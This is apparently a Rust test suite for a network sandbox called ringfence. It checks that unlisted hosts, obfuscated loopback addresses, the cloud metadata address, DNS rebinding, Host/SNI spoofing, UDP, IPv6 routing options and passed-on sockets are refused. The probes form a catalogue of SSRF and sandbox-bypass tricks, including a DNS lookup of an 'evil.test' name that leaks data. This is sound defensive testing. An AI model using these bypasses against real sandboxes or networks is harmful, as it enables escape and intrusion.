//! A host that is not allowed is not reached, and is reported by name.

use std::time::Duration;

use ringfence_testkit::{TestNetwork, TestOutput, becomes_true, python};
use serde_json::Value;

use super::{inside, on_a_lan};

/// Checks that a line reaches a server bare and not inside with these flags, and that `target` is
/// reported as denied for this reason.
#[track_caller]
fn refused(lan: &TestNetwork<'_>, flags: &[&str], line: &str, (target, reason): (&str, &str)) {
    let before = lan.server_log();
    lan.bare(line).ok();
    let bare = lan.server_log();
    assert!(bare.len() > before.len(), "`{line}` bare does not arrive: the probe cannot succeed");
    let ran = lan.run(&[&["--json"], flags, &["-c", line]].concat());
    assert_eq!(lan.server_log(), bare, "`{line}` came through");
    let said: Value =
        serde_json::from_slice(&ran.stdout).unwrap_or_else(|_| panic!("{}", ran.stderr_text()));
    let denials = said["denials"].as_array().unwrap_or_else(|| panic!("{said}"));
    let is_reported = |denial: &Value| {
        denial["operation"] == "connect"
            && denial["target"] == target
            && denial["rule"].as_str().is_some_and(|rule| rule.contains(reason))
    };
    assert!(
        denials.iter().any(is_reported),
        "`{line}`: {target} because of `{reason}` is not in {denials:#?}"
    );
}

const UNLISTED: &str = "no entry of `allow` matches";

/// Promise: other-hosts
#[test]
fn unlisted_host_name_is_refused() {
    on_a_lan(&["curl", "nc"], |_, lan| {
        let app = ["--allow-host", "app.test"];
        refused(lan, &app, "curl -sS http://other.test/hello", ("other.test", UNLISTED));
        refused(
            lan,
            &app,
            "curl -sS http://OTHER.test.:8080/hello || true",
            ("other.test", UNLISTED),
        );
        refused(lan, &app, "echo x | nc -N deep.app.test 7", ("deep.app.test", UNLISTED));
        // An entry for subdomains does not match the domain itself.
        refused(
            lan,
            &["--allow-host", "*.app.test"],
            "curl -sS http://app.test/hello",
            ("app.test", UNLISTED),
        );
        // Deny beats allow.
        let both = ["--allow-host", "*.test", "--deny-host", "other.test"];
        refused(
            lan,
            &both,
            "curl -sS http://other.test:8080/hello",
            ("other.test", "deny other.test"),
        );
        assert_eq!(
            lan.run(&["--allow-host", "*.app.test", "-c", "echo x | nc -N deep.app.test 7"]).ok(),
            "X"
        );
    });
}

/// Promise: other-hosts
#[test]
fn unlisted_host_name_is_not_sent_to_dns() {
    on_a_lan(&["getent"], |_, lan| {
        let line = "getent hosts the-secret.evil.test || true";
        refused(lan, &["--allow-host", "app.test"], line, ("the-secret.evil.test", UNLISTED));
        assert!(lan.server_log().contains("the-secret.evil.test"), "{}", lan.server_log());
    });
}

/// Promise: other-hosts
#[test]
fn unlisted_port_is_refused() {
    on_a_lan(&["curl", "nc"], |_, lan| {
        let one = ["--allow-host", "app.test:8080"];
        refused(lan, &one, "curl -sS http://app.test/hello", ("app.test:80", UNLISTED));
        refused(lan, &one, "echo x | nc -N app.test 7", ("app.test:7", UNLISTED));
        assert_eq!(
            lan.run(&["--allow-host", "app.test:7", "-c", "echo x | nc -N app.test 7"]).ok(),
            "X"
        );
    });
}

/// Promise: other-hosts
#[test]
fn unlisted_address_is_refused() {
    on_a_lan(&["curl"], |_, lan| {
        let app = ["--allow-host", "app.test", "--allow-host", "11.22.33.8/30"];
        // A neighbour, the address of a host that is allowed by name, and one just outside a range.
        for address in
            ["11.22.33.2", "11.22.33.1", "11.22.33.7", "11.22.33.12", "169.254.169.254", "10.9.8.7"]
        {
            refused(
                lan,
                &app,
                &format!("curl -sS http://{address}:8080/hello"),
                (&format!("{address}:8080"), UNLISTED),
            );
        }
        refused(
            lan,
            &app,
            "curl -sS 'http://[2600:1234:5678::1]:8080/hello'",
            ("[2600:1234:5678::1]:8080", UNLISTED),
        );
        refused(lan, &app, "curl -sS http://0x0b162102:8080/hello", ("11.22.33.2:8080", UNLISTED));
        refused(
            lan,
            &app,
            "curl -sS 'http://[::ffff:11.22.33.2]:8080/hello'",
            ("11.22.33.2:8080", UNLISTED),
        );
        assert_eq!(
            lan.run(&[&app[..], &["-c", "curl -sS http://11.22.33.9:8080/hello"]].concat()).ok(),
            "hello from http://11.22.33.9:8080"
        );
    });
}

/// Promise: other-hosts
#[test]
fn host_loopback_is_refused_in_every_spelling() {
    on_a_lan(&["curl", "nc"], |_, lan| {
        let app = ["--allow-host", "app.test"];
        for spelling in
            ["127.0.0.1", "127.1", "0x7f000001", "2130706433", "017700000001", "[::ffff:127.0.0.1]"]
        {
            let line = format!("curl -sS 'http://{spelling}:8080/hello'");
            refused(lan, &app, &line, ("localhost:8080", "its own loopback"));
        }
        refused(
            lan,
            &app,
            "curl -sS 'http://[::1]:8080/hello'",
            ("localhost:8080", "its own loopback"),
        );
        refused(
            lan,
            &app,
            "curl -sS http://0.0.0.0:8080/hello",
            ("localhost:8080", "its own loopback"),
        );
        refused(
            lan,
            &app,
            "echo x | nc -N localhost 7 || true",
            ("localhost:7", "its own loopback"),
        );
        // A port without a listener on either side gives ECONNREFUSED, and no denial.
        let ran = lan.run(&[
            "--json",
            "--allow-host",
            "app.test",
            "-c",
            "curl -s http://127.0.0.1:9/hello",
        ]);
        let said: Value = serde_json::from_slice(&ran.stdout).expect("JSON");
        assert_eq!(
            (&said["exitCode"], &said["denials"]),
            (&7.into(), &Value::Array(Vec::new())),
            "{said}"
        );
    });
}

/// Promise: other-hosts
#[test]
fn listed_name_with_a_guarded_address_is_refused() {
    on_a_lan(&["curl", "nc"], |_, lan| {
        for (name, reason) in [
            ("inner.test", "it stands for 10.9.8.7 (private), which must be allowed by address"),
            (
                "metadata.test",
                "it stands for 169.254.169.254 (cloud metadata service), which must be allowed by address",
            ),
            ("local.test", "it stands for 127.0.0.1 (loopback), which must be allowed by address"),
        ] {
            for port in ["80", "8080"] {
                let wide = ["--allow-host", name, "--allow-host", "0.0.0.0/0"];
                refused(
                    lan,
                    &wide,
                    &format!("curl -sS http://{name}:{port}/hello"),
                    (&format!("{name}:{port}"), reason),
                );
            }
        }
        for (name, range) in [
            ("inner.test", "10.9.8.0/24"),
            ("metadata.test", "169.254.169.254"),
            ("local.test", "127.0.0.0/8"),
        ] {
            let line = format!("echo x | nc -N {name} 7");
            assert_eq!(
                lan.run(&["--allow-host", name, "--allow-host", range, "-c", &line]).ok(),
                "X"
            );
        }
    });
}

#[test]
fn guarded_address_is_reported_with_a_command_that_opens_it() {
    on_a_lan(&["curl"], |project, lan| {
        let ran = lan.run(&[
            "--allow-host",
            "inner.test",
            "-c",
            "curl -sSf http://inner.test:8080/hello",
        ]);
        let line = "ringfence: 1 host was denied (inner.test: it resolves to 10.9.8.7, which is not allowed); see: ringfence explain --last";
        assert!(ran.status != 0 && ran.stderr_text().contains(line), "{}", ran.stderr_text());
        let explained =
            TestOutput::run(project.ringfence().args(["explain", "--last"]), b"").text();
        assert!(explained.contains("ringfence allow host 10.9.8.7:8080"), "{explained}");
    });
}

/// Promise: other-hosts
#[test]
fn dns_rebinding_of_a_listed_name_is_refused() {
    on_a_lan(&["curl"], |project, lan| {
        let ask = "curl -sS http://app.test:8080/hello";
        let line = format!("{ask}; touch asked; while test -e asked; do sleep 0.02; done; {ask}");
        let ran = std::thread::scope(|scope| {
            let run = scope.spawn(|| lan.run(&["--json", "--allow-host", "app.test", "-c", &line]));
            assert!(
                becomes_true(Duration::from_secs(20), || project.has("asked")),
                "{}",
                lan.server_log()
            );
            // Written in place: this very file is mounted.
            std::fs::write(lan.at("hosts"), "10.9.8.7 app.test\n").expect("the file is ours");
            std::fs::remove_file(project.at("asked")).expect("it is there");
            run.join().expect("a run does not panic")
        });
        let said: Value =
            serde_json::from_slice(&ran.stdout).unwrap_or_else(|_| panic!("{}", ran.stderr_text()));
        assert_eq!(said["stdout"], "hello from http://app.test:8080\n");
        let denial = &said["denials"][0];
        assert_eq!(denial["target"], "app.test:8080", "{said}");
        assert_eq!(
            denial["rule"],
            "it stands for 10.9.8.7 (private), which must be allowed by address"
        );
        assert_eq!(lan.server_log().lines().count(), 1, "{}", lan.server_log());
        lan.bare(ask).ok();
        assert_eq!(lan.server_log().lines().count(), 2, "{}", lan.server_log());
    });
}

/// Promise: other-hosts
#[test]
fn host_header_or_sni_of_another_host_is_refused() {
    on_a_lan(&["curl", "openssl", "nc"], |project, lan| {
        let app = ["--allow-host", "app.test"];
        let reason = "it names another host: other.test";
        refused(
            lan,
            &app,
            "curl -sS -H 'Host: other.test' http://app.test/hello",
            ("app.test:80", reason),
        );
        let tls = "curl -sS --cacert ca.crt --connect-to other.test:443:app.test:443 https://other.test/hello";
        refused(lan, &app, tls, ("app.test:443", reason));
        // TLS without a server name.
        let nameless = "printf 'GET /hello HTTP/1.1\\r\\nHost: app.test\\r\\nConnection: close\\r\\n\\r\\n' | openssl s_client -quiet -noservername -connect app.test:443";
        refused(
            lan,
            &app,
            &format!("{{ {nameless}; sleep 0.2; }} 2>/dev/null"),
            ("app.test:443", ""),
        );
        // The second request of a connection is checked like the first.
        let before = lan.server_log();
        let two = "printf 'GET /hello HTTP/1.1\\r\\nHost: app.test\\r\\n\\r\\nGET /second HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n' | nc -N app.test 80 || true";
        lan.run(&["--allow-host", "app.test", "-c", two]).ok();
        assert!(!lan.server_log()[before.len()..].contains("/second"), "{}", lan.server_log());
        lan.bare(two).ok();
        assert!(lan.server_log().contains("other.test /second"), "{}", lan.server_log());
        // The policy can switch the check off.
        project.write_at(
            &project.home().join(".config/ringfence/policy.toml"),
            "version = 1\n[network]\nsni = \"off\"\n",
        );
        assert_eq!(inside(lan, tls), "hello from https://other.test");
    });
}

/// Promise: other-hosts
#[test]
fn unlisted_datagrams_are_refused() {
    on_a_lan(&[], |project, lan| {
        let Some(python) = python() else { return };
        project.write(
            "send.py",
            "import socket, sys
s = socket.socket(socket.AF_INET6 if ':' in sys.argv[1] else socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(0.5)
try:
    if sys.argv[2] == 'connect':
        s.connect((sys.argv[1], 53))
        s.send(b'question-in-a-datagram')
    elif sys.argv[2] == 'sendmsg':
        s.sendmsg([b'question-in-a-datagram'], [], 0, (sys.argv[1], 53))
    else:
        s.sendto(b'question-in-a-datagram', (sys.argv[1], 53))
    s.recv(99)
except OSError as error:
    print(error)
",
        );
        let all = [
            "--allow-host",
            "app.test",
            "--allow-host",
            "11.22.33.0/24",
            "--allow-host",
            "2600:1234:5678::/64",
        ];
        for means in ["connect", "sendto", "sendmsg"] {
            for (address, target) in [
                ("11.22.33.1", "11.22.33.1:53/udp"),
                ("2600:1234:5678::1", "[2600:1234:5678::1]:53/udp"),
            ] {
                refused(
                    lan,
                    &all,
                    &format!("{python} send.py {address} {means}"),
                    (target, "only TCP leaves the sandbox"),
                );
            }
        }
    });
}

/// Promise: other-hosts
#[test]
fn empty_allow_list_refuses_every_host() {
    on_a_lan(&["curl"], |project, lan| {
        let file = project.home().join(".config/ringfence/policy.toml");
        let line = "curl -sS http://11.22.33.1:8080/hello";
        project.write_at(&file, "version = 1\n[network]\nmode = \"allow-list\"\nallow = []\n");
        // The mode needs a host, so nothing runs.
        let ran = lan.run(&["-c", "touch ran"]);
        assert_eq!((ran.status, project.has("ran")), (125, false), "{}", ran.stderr_text());
        assert!(
            ran.stderr_text()
                .contains("policy.toml:3: `mode = allow-list` needs at least one host in `allow`"),
            "{}",
            ran.stderr_text()
        );
        lan.run(&["--net", "allow-list", "-c", "true"]).expect_status(125);
        // A port of this machine is allowed, but no host.
        let port = ["--allow-localhost", "1"];
        refused(lan, &port, "curl -sS http://app.test:8080/hello", ("app.test", UNLISTED));
        refused(lan, &port, line, ("11.22.33.1:8080", UNLISTED));
        // Without the mode, an empty list opens nothing.
        project.write_at(&file, "version = 1\n[network]\nallow = []\n");
        let before = lan.server_log();
        lan.run(&["-c", &format!("! {line}")]).ok();
        assert_eq!(lan.server_log(), before);
    });
}

/// Promise: host-network
#[test]
fn source_routing_and_interface_options_are_refused() {
    on_a_lan(&[], |project, lan| {
        let Some(python) = python() else { return };
        // A routing header that sends every packet to another host first, and similar options.
        project.write(
            "way.py",
            "import socket, sys
s = socket.create_connection(('six.test', 7))
header = bytes([0, 4, 4, 1, 1, 0, 0, 0]) + 2 * socket.inet_pton(socket.AF_INET6, '2600:1234:5678::9')
tried = {'RTHDR': (41, 57, header), 'DSTOPTS': (41, 59, bytes([0, 0, 1, 4, 0, 0, 0, 0])), 'UNICAST_IF': (41, 76, bytes(4)),
         'BINDTODEVICE': (1, 25, b'lo'), 'BINDTOIFINDEX': (1, 62, bytes([1, 0, 0, 0])), 'IP_OPTIONS': (0, 4, bytes([1, 1, 1, 0]))}
for name, option in tried.items():
    try:
        s.setsockopt(*option)
        print(name, 'set')
    except OSError as error:
        print(name, error.errno)
s.setsockopt(6, 1, 1)
s.setsockopt(41, 67, 8)
s.setsockopt(1, 9, 1)
",
        );
        let line = format!("{python} way.py");
        let bare = lan.bare(&line).ok();
        assert!(
            bare.contains("RTHDR set") && bare.contains("UNICAST_IF set"),
            "bare it is not refused: the probe cannot succeed: {bare}"
        );
        let inside = lan.run(&["--allow-host", "six.test", "-c", &line]).ok();
        assert!(
            inside.lines().count() == 6 && inside.lines().all(|line| line.ends_with(" 1")),
            "{inside}"
        );
    });
}

/// One process connects to the allowed host `app.test` and passes the socket to another, which
/// disconnects it and connects it to `other.test`.
const HANDED_ON: &str = "import array, ctypes, os, socket, sys
one, other = socket.socketpair()
if os.fork():
    connected = socket.create_connection(('app.test', 7))
    one.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [connected.fileno()]))])
    os._exit(os.waitstatus_to_exitcode(os.wait()[1]))
_, passed, _, _ = other.recvmsg(1, socket.CMSG_SPACE(4))
number = array.array('i'); number.frombytes(passed[0][2][:4])
nowhere = ctypes.create_string_buffer(16)
ctypes.CDLL(None).connect(number[0], nowhere, 16)
got = socket.socket(fileno=number[0])
try:
    got.connect(socket.getaddrinfo('other.test', 7, got.family)[0][4])
except OSError as error:
    print(error); sys.exit(1)
got.sendall(b'from one who was not let\\n'); got.recv(1)
";

/// Promise: host-network
#[test]
fn passed_connection_cannot_be_reconnected_elsewhere() {
    on_a_lan(&[], |project, lan| {
        let Some(python) = python() else { return };
        project.write("pass.py", HANDED_ON);
        refused(
            lan,
            &["--allow-host", "app.test"],
            &format!("{python} pass.py"),
            ("other.test", UNLISTED),
        );
        // By address, without a name lookup: the socket stays connected to the first host.
        project.write(
            "pass.py",
            HANDED_ON.replace("'other.test'", "'11.22.33.2'").replace("'app.test'", "'11.22.33.1'"),
        );
        let before = lan.server_log();
        let ran = lan.run(&["--allow-host", "11.22.33.1:7", "-c", &format!("{python} pass.py")]);
        assert!(
            ran.status == 1
                && ran.text().contains("already connected")
                && lan.server_log() == before,
            "{}",
            ran.stderr_text()
        );
    });
}
